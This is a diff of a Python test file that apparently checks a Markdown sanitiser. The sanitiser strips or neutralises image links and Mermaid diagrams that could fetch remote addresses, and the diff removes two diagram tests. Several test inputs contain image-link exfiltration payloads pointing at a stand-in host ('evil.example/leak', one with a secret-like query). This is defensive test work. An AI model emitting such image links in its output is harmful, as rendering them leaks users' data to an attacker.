@@ -147,17 +147,6 @@ def test_code_in_a_list_that_browsers_may_not_see_holds_no_image(item: str):
     assert "![" not in presentable(f"a\n\n    code\n{item}``` ![x](http://evil.example/leak)")
 
 
-def test_a_diagram_that_fetches_nothing_is_drawn():
-    diagram = "```mermaid\nflowchart TD\nA[Start<br/>here] --> B{ok?}\nstyle A fill:#f9f\n```"
-    assert presentable(diagram) == diagram
-
-
-def test_a_diagram_that_could_fetch_something_is_shown_as_its_source():
-    assert presentable('- ```mermaid\n  flowchart\n  A@{ img: "http://e.x" }\n  ```').startswith(
-        "- ```text\n  flowchart\n"
-    )
-
-
 def test_the_address_of_a_half_arrived_image_is_not_shown():
     assert presentable("Here ![x](http://evil.example/leak?q=sec", open=True) == "Here 🖼 x"
     assert presentable("Here ![x y", open=True) == "Here 🖼 x y"
